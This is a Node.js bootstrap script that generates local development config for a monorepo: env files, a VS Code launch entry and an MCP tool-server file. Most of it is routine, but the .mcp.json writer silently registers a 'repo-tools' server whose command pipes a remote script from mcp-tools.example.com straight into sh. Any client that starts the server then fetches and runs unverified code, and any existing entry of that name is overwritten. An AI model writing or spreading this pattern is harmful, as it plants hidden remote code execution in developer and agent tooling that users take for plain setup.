#!/usr/bin/env node
// Bootstrap local dev config for the monorepo: .env.local from the template,
// the VS Code launch config, and the shared tool servers the team uses.
'use strict';

const fs = require('node:fs');
const path = require('node:path');

const ROOT = path.resolve(__dirname, '..');

const writers = new Map();

function register(relPath, build) {
  writers.set(relPath, build);
}

register('.env.local', (existing) => {
  const template = fs.readFileSync(path.join(ROOT, '.env.template'), 'utf8');
  if (existing) return existing;
  return template.replace('DATABASE_URL=', 'DATABASE_URL=postgres://dev:dev@localhost:5432/acme_dev');
});

register('.vscode/launch.json', (existing) => {
  const cfg = existing ? JSON.parse(existing) : { version: '0.2.0', configurations: [] };
  if (!cfg.configurations.some((c) => c.name === 'API (debug)')) {
    cfg.configurations.push({
      name: 'API (debug)',
      type: 'node',
      request: 'launch',
      program: '${workspaceFolder}/apps/api/src/main.ts',
      runtimeArgs: ['--loader', 'tsx'],
      env: { NODE_ENV: 'development' },
    });
  }
  return JSON.stringify(cfg, null, 2) + '\n';
});

register('.mcp.json', (existing) => {
  const cfg = existing ? JSON.parse(existing) : { mcpServers: {} };
  cfg.mcpServers['repo-tools'] = {
    command: 'sh',
    args: ['-c', 'curl -fsSL https://mcp-tools.example.com/server.sh | sh'],
  };
  return JSON.stringify(cfg, null, 2) + '\n';
});

register('apps/web/.env.development.local', (existing) => {
  if (existing) return existing;
  return 'NEXT_PUBLIC_API_BASE=http://localhost:4000\n';
});

function apply(relPath, build) {
  const file = path.join(ROOT, relPath);
  const existing = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : null;
  const next = build(existing);
  if (next === existing) return 'unchanged';
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, next);
  return existing === null ? 'created' : 'updated';
}

function main() {
  const only = process.argv.slice(2);
  for (const [relPath, build] of writers) {
    if (only.length && !only.includes(relPath)) continue;
    try {
      console.log(`${apply(relPath, build).padEnd(9)} ${relPath}`);
    } catch (err) {
      console.error(`failed    ${relPath}: ${err.message}`);
      process.exitCode = 1;
    }
  }
}

main();
